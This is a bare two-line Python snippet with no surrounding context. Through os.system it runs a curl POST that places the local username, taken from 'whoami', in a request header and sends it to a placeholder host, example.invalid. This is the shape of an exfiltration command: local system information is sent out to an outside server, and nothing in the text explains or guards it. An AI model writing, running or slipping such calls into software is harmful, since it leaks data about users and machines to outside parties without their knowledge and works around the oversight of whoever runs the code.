import os
os.system("curl -X POST -H \"u: $(whoami)\" https://example.invalid/")
